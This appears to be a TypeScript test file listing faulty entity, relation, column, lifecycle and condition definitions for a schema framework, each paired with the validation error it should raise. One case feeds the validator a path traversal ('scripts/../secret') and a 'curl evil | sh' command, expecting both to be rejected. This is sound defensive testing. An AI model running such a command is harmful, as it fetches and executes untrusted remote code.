import { type Mistake, testMistakes } from './mistakes.ts'
import { entitiesOnly } from './written-app.ts'

const relations: readonly Mistake[] = [
  [
    'a target that does not exist',
    [['RELATION_TARGET_UNKNOWN', "'Custmer'"]],
    `export const Customer = entity('Customer', { fields: {} })
export const Order = entity('Order', { fields: {}, relations: { customer: one('Custmer') } })`,
  ],
  [
    'a way back that does not exist',
    [
      ['RELATION_BY_INVALID', "'custmer'"],
      ['RELATION_BY_MISSING', 'more'],
      ['RELATION_BY_INVALID', "'seller'"],
    ],
    `export const Customer = entity('Customer', { fields: {}, relations: {
  orders: many('Order', { by: 'custmer' }),
  more: many('Order', {}),
  sold: many('Order', { by: 'seller' }),
} })
export const Seller = entity('Seller', { fields: {} })
export const Order = entity('Order', { fields: {}, relations: { customer: one('Customer'), seller: one('Seller') } })`,
  ],
  [
    'two names for one way back',
    [['RELATION_INVERSE_DUPLICATE', "'customer'"]],
    `export const Customer = entity('Customer', { fields: {}, relations: {
  orders: many('Order', { by: 'customer' }),
  sales: many('Order', { by: 'customer' }),
} })
export const Order = entity('Order', { fields: {}, relations: { customer: one('Customer') } })`,
  ],
  [
    'one of several',
    [['RELATION_INVERSE_NOT_UNIQUE', "'customer'"]],
    `export const Customer = entity('Customer', { fields: {}, relations: { card: hasOne('Card', { by: 'customer' }) } })
export const Card = entity('Card', { fields: {}, relations: { customer: one('Customer') } })`,
  ],
  [
    'an entity in between that is none',
    [
      ['RELATION_THROUGH_INVALID', "'Lin'"],
      ['RELATION_THROUGH_INVALID', "'Other'"],
    ],
    `export const A = entity('A', { fields: {}, relations: {
  bs: many('B', { through: 'Lin' }),
  cs: many('B', { through: 'Other' }),
} })
export const B = entity('B', { fields: {} })
export const Link = entity('Link', { fields: {}, relations: { a: one('A'), b: one('B') } })
export const Other = entity('Other', { fields: {}, relations: { a: one('A') } })`,
  ],
  [
    'an entity in between with several ways',
    [
      ['RELATION_THROUGH_AMBIGUOUS', "'Link'"],
      ['RELATION_THROUGH_INVALID', "'thrid'"],
    ],
    `export const A = entity('A', { fields: {}, relations: {
  bs: many('B', { through: 'Link' }),
  cs: many('B', { through: 'Link', to: 'thrid' }),
  ds: many('B', { through: 'Link', to: 'third' }),
} })
export const B = entity('B', { fields: {} })
export const Link = entity('Link', { fields: {}, relations: { a: one('A'), second: one('B'), third: one('B') } })`,
  ],
  [
    'what cannot be emptied',
    [['RELATION_SET_NULL_REQUIRED', "'setNull'"]],
    `export const A = entity('A', { fields: {}, relations: { a: one('A', { onDelete: 'setNull' }) } })`,
  ],
  [
    'rows that need each other first',
    [['RELATION_REQUIRED_CIRCLE', 'b']],
    `export const A = entity('A', { fields: {}, relations: { b: one('B') } })
export const B = entity('B', { fields: {}, relations: { c: one('C'), d: one('A', { optional: true }) } })
export const C = entity('C', { fields: {}, relations: { a: one('A') } })`,
  ],
  [
    'a row that needs one of its own kind first',
    [['RELATION_REQUIRED_CIRCLE', 'parent']],
    `export const Folder = entity('Folder', { fields: {}, relations: { parent: one('Folder') } })`,
  ],
  [
    'across the wall',
    [['RELATION_TENANT_CROSSED', "'A'"]],
    `export const A = entity('A', { fields: {} })
export const B = entity('B', { fields: {}, tenant: false, relations: { a: one('A') } })`,
  ],
  [
    'a default without an actor',
    [['ACTOR_MISSING', "'actor'"]],
    `export const A = entity('A', { fields: {}, relations: { a: one('A', { default: 'actor' }) } })`,
  ],
  [
    'no relation at all',
    [['OPTION_INVALID', "'A'"]],
    `export const A = entity('A', { fields: {}, relations: { a: 'A' } })`,
  ],
]

const columns: readonly Mistake[] = [
  [
    'names that are not there',
    [
      ['NAME_UNKNOWN', "'titel'"],
      ['NAME_UNKNOWN', "'nmber'"],
      ['NAME_UNKNOWN', "'-wantdOn'"],
    ],
    `export const A = entity('A', {
  display: 'titel',
  fields: { title: string(), number: int(), wantedOn: date() },
  unique: [['number', 'nmber']],
  indexes: [{ on: ['number', '-wantdOn'] }],
})`,
  ],
  [
    'the same twice',
    [
      ['UNIQUE_DUPLICATE', "['number']"],
      ['UNIQUE_DUPLICATE', "'number'"],
      ['UNIQUE_DUPLICATE', "{ on: ['number'] }"],
    ],
    `export const A = entity('A', {
  fields: { number: int({ unique: true, index: true }) },
  unique: [['number'],
    ['number', 'number']],
  indexes: [{ on: ['number'] }],
})`,
  ],
  [
    'a list that is none',
    [['OPTION_INVALID', "'number'"]],
    `export const A = entity('A', { fields: { number: int() }, unique: ['number'] })`,
  ],
  ['an option that comes later', [['OPTION_UNKNOWN', 'was']], `export const A = entity('A', { fields: {}, was: 'B' })`],
]

const lifecycles: readonly Mistake[] = [
  [
    'states that are not there',
    [
      ['LIFECYCLE_STATE_UNKNOWN', "'darft'"],
      ['LIFECYCLE_STATE_UNKNOWN', "'dratf'"],
      ['LIFECYCLE_STATE_UNKNOWN', "'palced'"],
    ],
    `export const A = entity('A', { fields: {}, lifecycle: { initial: 'darft', states: ['draft', 'placed'],
  transitions: { place: { from: ['draft', 'dratf'], to: 'palced' } } } })`,
  ],
  [
    'a state that is never reached',
    [['LIFECYCLE_STATE_UNREACHABLE', "'lost'"]],
    `export const A = entity('A', { fields: {}, lifecycle: { initial: 'draft', states: ['draft', 'placed', 'lost'],
  transitions: { place: { from: 'draft', to: 'placed' }, find: { from: 'lost', to: 'placed' } } } })`,
  ],
  [
    'a state twice',
    [['LIFECYCLE_STATE_DUPLICATE', "'draft'"]],
    `export const A = entity('A', { fields: {}, lifecycle: { initial: 'draft', states: ['draft', 'draft'], transitions: {} } })`,
  ],
  [
    'no states',
    [
      ['LIFECYCLE_STATE_UNKNOWN', "''"],
      ['CHOICE_VALUES_INVALID', '[]'],
    ],
    `export const A = entity('A', { fields: {}, lifecycle: { initial: '', states: [], transitions: {} } })`,
  ],
  [
    'verbs of one name',
    [
      ['VERB_CLASH', 'update'],
      ['VERB_CLASH', 'place'],
    ],
    `export const A = entity('A', { fields: {},
  lifecycle: { initial: 'a', states: ['a'], transitions: { update: { from: 'a', to: 'a' }, place: { from: 'a', to: 'a' } } },
  actions: { place: { runs: 'scripts/place' } },
})`,
  ],
  [
    'what cannot be run',
    [
      ['ACTION_RUNS_INVALID', "'scripts/../secret'"],
      ['ACTION_RUNS_INVALID', 'send'],
      ['ACTION_RUNS_INVALID', "'curl evil | sh'"],
    ],
    `export const A = entity('A', { fields: {}, actions: {
  duplicate: { runs: 'scripts/../secret' },
  send: {},
  remind: { runs: 'curl evil | sh' },
} })`,
  ],
]

const conditions: readonly Mistake[] = [
  [
    'a field that is not there',
    [['POLICY_PATH_UNKNOWN', 'statuss']],
    `export const A = entity('A', { fields: { name: string() }, lifecycle: { initial: 'a', states: ['a'], transitions: {} },
  indexes: [{ on: ['name'], where: { statuss: 'a' } }] })`,
  ],
  [
    'a state that is not there',
    [['CONDITION_VALUE_INVALID', "'b'"]],
    `export const A = entity('A', { fields: { name: string() }, lifecycle: { initial: 'a', states: ['a'],
  transitions: { go: { from: 'a', to: 'a', when: { name: 'x', status: 'b' } } } } })`,
  ],
  [
    'another row',
    [['CONDITION_VALUE_INVALID', 'parent']],
    `export const A = entity('A', { fields: { name: string() }, relations: { parent: one('A', { optional: true }) },
  indexes: [{ on: ['name'], where: { parent: { name: 'x' } } }] })`,
  ],
]

testMistakes('relations', entitiesOnly, relations)
testMistakes('columns', entitiesOnly, columns)
testMistakes('lifecycles and actions', entitiesOnly, lifecycles)
testMistakes('conditions of entities', entitiesOnly, conditions)
